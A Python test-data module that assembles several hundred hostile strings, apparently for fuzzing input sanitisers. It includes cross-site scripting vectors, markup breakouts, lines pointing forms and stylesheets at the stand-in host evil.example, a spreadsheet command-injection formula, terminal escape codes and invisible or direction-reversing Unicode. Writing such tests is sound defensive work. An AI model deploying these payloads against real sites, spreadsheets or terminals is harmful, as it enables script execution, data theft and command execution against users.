"""Two hundred hostile texts: markup, scripts, characters that cannot be seen or that leave their place."""

_SCRIPTS = [
    "<script>boom()</script>", "</script><script>boom()</script>", "<img src=x onerror=boom()>", "<svg onload=boom()>",
    "<svg><script>boom()</script></svg>", "<iframe srcdoc='<script>parent.boom()</script>'></iframe>", "<body onload=boom()>",
    "<details open ontoggle=boom()>", "<input autofocus onfocus=boom()>", "<a href='javascript:boom()'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=boom()>", "<template><script>boom()</script></template>",
    "<object data='javascript:boom()'></object>", "<embed src='javascript:boom()'>", "<link rel=stylesheet href=//evil.example>",
    "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:boom()'>", "<style>*{display:none}</style>",
    "<form action=//evil.example><button>x", "<textarea></textarea><script>boom()</script>", "<!--><script>boom()</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=boom()>'>", "<title></title><script>boom()</script>",
    "<xmp></xmp><img src=x onerror=boom()>", "<plaintext>", "<video><source onerror=boom()>", "<audio src=x onerror=boom()>",
    "<marquee onstart=boom()>", "<isindex type=image src=1 onerror=boom()>", "<table background='javascript:boom()'>",
]  # fmt: skip
_BREAKOUTS = ["\" onmouseover=\"boom()", "' onmouseover='boom()", "\"><script>boom()</script>", "'><script>boom()</script>", "]]>", "-->",
    "*/boom()/*", "\\\"><img src=x onerror=boom()>", "`${boom()}`", "{{ boom() }}", "{% boom %}", "${boom()}", "<%= boom() %>", "#{boom()}",
    "&lt;script&gt;boom()&lt;/script&gt;", "&#60;script&#62;boom()&#60;/script&#62;", "%3Cscript%3Eboom()%3C/script%3E", "\\u003cscript\\u003eboom()",
    "</pre><script>boom()</script>", "</li></ol></details><script>boom()</script>"]  # fmt: skip
_HIDDEN = [chr(number) for number in (
    0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0D, 0x1B, 0x7F, 0x80, 0x85, 0x9B, 0xA0, 0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x180E,
    0x2000, 0x2003, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2062,
    0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0x2800, 0x3000, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xE0001, 0xE0041, 0xE007F,
    0xE000, 0x10FFFF, 0xFFFE,
)]  # fmt: skip
_LONG = [
    "x" * 5_000,
    "W" * 300 + " " + "W" * 300,
    "\n" * 500,
    "\t" * 300,
    "a\u0301" * 200,
    "e" + "\u0300" * 300,
    "\U0001f468\u200d" * 50,
    "( " * 400,
]
_OTHERS = [
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "NaN",
    "null",
    "<<<mark\nx\nmark>>>",
    "\ud800",
]

INVISIBLE = _HIDDEN
PAYLOADS = [
    *_SCRIPTS,
    *_BREAKOUTS,
    *(f"a{one}b" for one in _HIDDEN),
    *_LONG,
    *_OTHERS,
    *(f"{start}{script}" for start in ("\u202e", "x\x00", "</style>") for script in _SCRIPTS[:26]),
]
